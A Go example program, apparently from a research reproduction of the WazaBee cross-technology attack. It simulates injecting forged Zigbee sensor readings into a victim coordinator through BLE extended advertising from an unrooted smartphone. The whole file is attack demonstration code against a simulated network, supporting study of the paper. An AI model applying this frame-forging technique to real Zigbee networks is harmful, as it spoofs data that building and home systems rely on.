// Scenario A (section VI-B of the paper): injecting 802.15.4 frames into
// a Zigbee network from an unrooted smartphone.
//
// The attacker controls nothing but the standard extended-advertising
// API: it cannot pick the secondary advertising channel (Channel
// Selection Algorithm #2 does), cannot disable whitening (so it
// pre-applies the dewhitening transform to its payload) and cannot
// receive at all (invalid-CRC frames die in the controller). Despite all
// that, forged sensor readings land on the victim coordinator's display.
package main

import (
	"fmt"
	"io"
	"log"
	"os"

	"wazabee"
	"wazabee/internal/ble"
	"wazabee/internal/core"
	"wazabee/internal/ieee802154"
	"wazabee/internal/zigbee"
)

const (
	sps           = 8
	targetChannel = zigbee.DefaultChannel // 14 -> BLE channel 8 (2420 MHz)
	snrDB         = 25
)

func main() {
	if err := run(os.Stdout); err != nil {
		log.Fatal(err)
	}
}

func run(w io.Writer) error {
	// The victim: the paper's XBee domotic network (PAN 0x1234,
	// coordinator 0x0042 graphing sensor 0x0063's readings).
	network, err := wazabee.NewVictimNetwork(2021, sps, snrDB)
	if err != nil {
		return err
	}

	phone, err := wazabee.NewSmartphone(sps)
	if err != nil {
		return err
	}

	bleChannel, err := core.BLEChannelFor(targetChannel)
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "target: Zigbee channel %d == BLE data channel %d\n", targetChannel, bleChannel)

	// Forge a sensor reading. The payload below rides inside a
	// manufacturer-specific AD structure of an AUX_ADV_IND; the 16 PDU
	// bytes before it are the headers the paper calls padding.
	fmt.Fprintf(w, "advertising-PDU overhead before attacker data: %d bytes\n", ble.AuxAdvIndOverhead)
	for i, value := range []uint16{2222, 3333, 4444} {
		frame := wazabee.NewDataFrame(uint8(40+i), zigbee.DefaultPAN, zigbee.DefaultCoordinator,
			zigbee.DefaultSensor, zigbee.SensorPayload(value), false)
		psdu, err := frame.Encode()
		if err != nil {
			return err
		}
		ppdu, err := ieee802154.NewPPDU(psdu)
		if err != nil {
			return err
		}
		events, err := phone.InjectFrame(network, targetChannel, ppdu, 1000)
		if err != nil {
			return err
		}
		fmt.Fprintf(w, "forged reading %d injected after %d advertising events (CSA#2 lottery)\n", value, events)
	}

	fmt.Fprintln(w, "\ncoordinator display log:")
	for _, r := range network.Coordinator.Readings {
		fmt.Fprintf(w, "  from %#04x seq %3d: value %d\n", r.Src, r.Seq, r.Value)
	}
	if last, ok := network.Coordinator.LastReading(); ok && last.Value == 4444 {
		fmt.Fprintln(w, "\nall forged data packets accepted by the legitimate coordinator")
	}
	return nil
}
